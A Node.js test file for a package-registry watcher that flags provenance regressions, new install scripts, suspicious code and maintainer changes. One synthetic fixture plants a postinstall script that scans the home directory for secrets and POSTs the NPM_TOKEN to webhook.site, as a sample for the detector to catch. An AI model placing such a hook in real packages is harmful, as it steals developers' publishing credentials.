'use strict'

// `prov-native watch` against a loopback registry that publishes versions while the watcher
// runs. The packages before the run are the real fixtures (sigstore: versions with verified
// SLSA provenance); the versions published here are SYNTHETIC (tarballs made by makeTgz, no
// attestations): one without provenance after versions with it, one adding a postinstall whose
// target downloads and runs code, one published with a new maintainer.

const assert = require('node:assert/strict')
const fs = require('node:fs')
const path = require('node:path')
const { test } = require('node:test')

const pn = require('..')
const { startRegistry } = require('./registry')
const { tmpdir, makeTgz, rejectsWith } = require('./helpers')
const watch = require('../bin/watch')

const MAINTAINERS = [{ name: 'bdehamer', email: 'b@example.com' }]

// The fixture packument with maintainers on every version (SYNTHETIC: the fixture tarballs'
// package.json files carry none), so that a change of maintainers can be seen.
const withMaintainers = {
  sigstore: (doc) => {
    for (const m of Object.values(doc.versions)) m.maintainers = MAINTAINERS
    return doc
  }
}

function setup (reg) {
  const dir = tmpdir()
  fs.writeFileSync(path.join(dir, '.npmrc'), `registry=${reg.url}\n`)
  return { dir, state: path.join(dir, 'state.json') }
}

// One CLI round (a separate watcher "process" each time: nothing is kept in memory between).
async function round (dir, state, extra = []) {
  const out = []
  const err = []
  const cwd = process.cwd()
  process.chdir(dir)
  try {
    const code = await watch.run(['--once', '--json', '--packages', 'sigstore', '--state', state, '--no-cache', ...extra], { out: (s) => out.push(s), err: (s) => err.push(s) })
    return { code, events: out.map((l) => JSON.parse(l)), err }
  } finally {
    process.chdir(cwd)
  }
}

const tgz = (version, scripts, files = {}) => makeTgz({ 'package.json': JSON.stringify({ name: 'sigstore', version, scripts }), ...files })
const at = (s) => new Date(Date.UTC(2030, 0, 1, 0, 0, s)).toISOString()

test('watch: each new version judged once, in publish order; nothing again after a restart', async () => {
  const reg = await startRegistry({ abbreviated: true, overrides: withMaintainers })
  try {
    const { dir, state } = setup(reg)
    const seen = []
    // 1. Baseline: what exists is recorded, nothing reported.
    let r = await round(dir, state)
    assert.equal(r.code, 0)
    assert.deepEqual(r.events, [])
    assert.ok(r.err.some((l) => /baseline recorded for 1/.test(l)), r.err.join('\n'))
    const base = JSON.parse(fs.readFileSync(state, 'utf8'))
    assert.ok(base.packages.sigstore.versions.includes('5.0.0'))
    assert.ok(base.packages.sigstore.etag)

    // 2. Unchanged: a conditional request, answered 304.
    const n = reg.requests.length
    r = await round(dir, state)
    assert.deepEqual(r.events, [])
    const asked = reg.requests.slice(n).filter((q) => q.url === '/sigstore')
    assert.equal(asked.length, 1)
    assert.equal(asked[0].status, 304)
    assert.equal(asked[0].headers['if-none-match'], base.packages.sigstore.etag)
    assert.match(asked[0].headers.accept, /application\/vnd\.npm\.install-v1\+json/)

    // 3. A version without provenance after versions with verified provenance.
    reg.publish('sigstore', '9.0.0', { manifest: { maintainers: MAINTAINERS }, tgz: tgz('9.0.0'), time: at(1) })
    r = await round(dir, state)
    seen.push(...r.events)
    assert.deepEqual(r.events.map((e) => `${e.version} ${e.rule}`), ['9.0.0 provenanceRegression'])
    assert.match(r.events[0].message, /5\.0\.0 was published with verified provenance; 9\.0\.0 has none/)
    assert.equal(r.events[0].level, 'error')
    assert.equal(r.code, 1)

    // 4. Two versions in one round: a postinstall whose target fetches and runs code, then a
    //    new maintainer. Judged in publish order.
    const dropper = "require('child_process').execSync('trufflehog filesystem ~'); fetch('https://webhook.site/x', { method: 'POST', body: process.env.NPM_TOKEN })"
    reg.publish('sigstore', '9.0.1', { manifest: { maintainers: MAINTAINERS, scripts: { postinstall: 'node install.js' } }, tgz: tgz('9.0.1', { postinstall: 'node install.js' }, { 'install.js': dropper }), time: at(2) })
    reg.publish('sigstore', '9.0.2', { manifest: { maintainers: [...MAINTAINERS, { name: 'mallory', email: 'm@example.com' }], scripts: { postinstall: 'node install.js' } }, tgz: tgz('9.0.2', { postinstall: 'node install.js' }, { 'install.js': dropper }), time: at(3) })
    r = await round(dir, state)
    seen.push(...r.events)
    const rules = r.events.map((e) => `${e.version} ${e.rule}`)
    assert.ok(rules.includes('9.0.1 installScripts'), rules.join('\n'))
    assert.ok(rules.includes('9.0.1 suspiciousCode'), rules.join('\n') + '\n' + r.err.join('\n'))
    assert.ok(rules.includes('9.0.2 publisherChange'), rules.join('\n'))
    assert.ok(!rules.includes('9.0.2 installScripts'), 'the hook is not new in 9.0.2')
    // In order: every 9.0.1 event before any 9.0.2 event.
    const versions = r.events.map((e) => e.version)
    assert.deepEqual(versions, [...versions].sort())
    assert.match(r.events.find((e) => e.rule === 'publisherChange').message, /added mallory/)

    // 5. A restart with the stored state: nothing again.
    r = await round(dir, state)
    assert.deepEqual(r.events, [])
    const ids = seen.map((e) => e.id)
    assert.equal(new Set(ids).size, ids.length, 'each event once')
    const st = JSON.parse(fs.readFileSync(state, 'utf8'))
    for (const v of ['9.0.0', '9.0.1', '9.0.2']) assert.ok(st.packages.sigstore.versions.includes(v))
  } finally {
    await reg.close()
  }
})

test('watch: an outage delays events but loses none; --output gets them before the state moves', async () => {
  const reg = await startRegistry({ overrides: withMaintainers })
  try {
    const { dir, state } = setup(reg)
    const output = path.join(dir, 'events.jsonl')
    await round(dir, state)
    const before = fs.readFileSync(state, 'utf8')
    reg.outage(503)
    reg.publish('sigstore', '9.0.0', { manifest: { maintainers: MAINTAINERS }, tgz: tgz('9.0.0'), time: at(1) })
    let r = await round(dir, state, ['--output', output])
    assert.deepEqual(r.events, [])
    assert.ok(r.err.some((l) => /sigstore: ERR_PROV_NETWORK: .*503.*kept for the next round/.test(l)), r.err.join('\n'))
    assert.equal(fs.readFileSync(state, 'utf8'), before, 'the state does not move past what was not seen')
    reg.outage(null)
    r = await round(dir, state, ['--output', output])
    assert.deepEqual(r.events.map((e) => `${e.version} ${e.rule}`), ['9.0.0 provenanceRegression'])
    r = await round(dir, state, ['--output', output])
    assert.deepEqual(r.events, [])
    const lines = fs.readFileSync(output, 'utf8').trim().split('\n').map((l) => JSON.parse(l))
    assert.deepEqual(lines.map((e) => e.id), ['sigstore@9.0.0#provenanceRegression#1'])
  } finally {
    await reg.close()
  }
})

test('watch: the policy file names what to watch; bad state and arguments are errors', async () => {
  const reg = await startRegistry()
  try {
    const { dir, state } = setup(reg)
    fs.writeFileSync(path.join(dir, 'prov-native.config.json'), JSON.stringify({ watch: { packages: ['sigstore', 'tuf-js'] } }))
    const r = await pn.watchPoll({ cwd: dir, stateFile: state, cache: false })
    assert.deepEqual(r.baseline, ['sigstore', 'tuf-js'])
    assert.deepEqual(r.events, [])
    assert.equal(r.state.version, 1)

    fs.writeFileSync(state, '{"version":1,"packages":')
    await rejectsWith(pn.watchPoll({ cwd: dir, stateFile: state, cache: false }), 'ERR_PROV_JSON')
    assert.equal(fs.readFileSync(state, 'utf8'), '{"version":1,"packages":', 'a bad state file is never replaced')
    fs.writeFileSync(path.join(dir, 'prov-native.config.json'), JSON.stringify({ watch: { names: [] } }))
    await rejectsWith(pn.watchPoll({ cwd: dir, cache: false }), 'ERR_PROV_CONFIG')
    fs.rmSync(path.join(dir, 'prov-native.config.json'))
    await rejectsWith(pn.watchPoll({ cwd: dir, packages: { 0: 'sigstore', length: 1 } }), 'ERR_PROV_INVALID_ARG')
    await rejectsWith(pn.watchPoll({ cwd: dir, packages: 'sigstore' }), 'ERR_PROV_INVALID_ARG')
    await rejectsWith(pn.watchPoll({ cwd: dir, packages: ['Not A Name'] }), 'ERR_PROV_INVALID_ARG')
    const io = { out: () => {}, err: () => {} }
    await assert.rejects(watch.run(['--interval', 'soon'], io), (e) => e.code === 'ERR_PROV_INVALID_ARG')
    await assert.rejects(watch.run(['--webhook', 'file:///x'], io), (e) => e.code === 'ERR_PROV_INVALID_ARG')
    assert.equal(watch.duration('5m'), 300000)
    assert.equal(watch.duration('30s'), 30000)
  } finally {
    await reg.close()
  }
})

test('watch: a sink that fails keeps the state, so the events come again; --webhook and --exec get each event', async () => {
  const http = require('node:http')
  const reg = await startRegistry({ overrides: withMaintainers })
  const got = []
  const hook = http.createServer((req, res) => {
    let body = ''
    req.on('data', (c) => { body += c })
    req.on('end', () => { got.push(JSON.parse(body)); res.writeHead(204); res.end() })
  })
  await new Promise((resolve) => hook.listen(0, '127.0.0.1', resolve))
  try {
    const { dir, state } = setup(reg)
    await round(dir, state)
    reg.publish('sigstore', '9.0.0', { manifest: { maintainers: MAINTAINERS }, tgz: tgz('9.0.0'), time: at(1) })
    const before = fs.readFileSync(state, 'utf8')
    // A command that fails: the round stops before the state is written.
    await assert.rejects(round(dir, state, ['--exec', 'exit 3']), /--exec exited with 3 for sigstore@9\.0\.0#provenanceRegression#1/)
    assert.equal(fs.readFileSync(state, 'utf8'), before)
    const execOut = path.join(dir, 'exec.jsonl')
    const r = await round(dir, state, ['--webhook', `http://127.0.0.1:${hook.address().port}/hook`, '--exec', `cat >> ${JSON.stringify(execOut)}; echo >> ${JSON.stringify(execOut)}`])
    assert.deepEqual(r.events.map((e) => e.id), ['sigstore@9.0.0#provenanceRegression#1'])
    assert.deepEqual(got.map((e) => e.id), ['sigstore@9.0.0#provenanceRegression#1'])
    assert.deepEqual(fs.readFileSync(execOut, 'utf8').trim().split('\n').map((l) => JSON.parse(l).id), ['sigstore@9.0.0#provenanceRegression#1'])
    assert.notEqual(fs.readFileSync(state, 'utf8'), before)
  } finally {
    await new Promise((resolve) => hook.close(resolve))
    await reg.close()
  }
})

test('watch and survey are wired into the prov-native command', async () => {
  const { main } = require('../bin/prov-native')
  for (const cmd of ['watch', 'survey']) {
    const out = []
    assert.equal(await main([cmd, '--help'], { out: (s) => out.push(s), err: () => {} }), 0)
    assert.match(out.join('\n'), new RegExp(`Usage: prov-native ${cmd}`))
  }
  const err = []
  assert.equal(await main(['watch', '--interval', 'x'], { out: () => {}, err: (s) => err.push(s) }), 2)
  assert.match(err.join('\n'), /ERR_PROV_INVALID_ARG/)
})
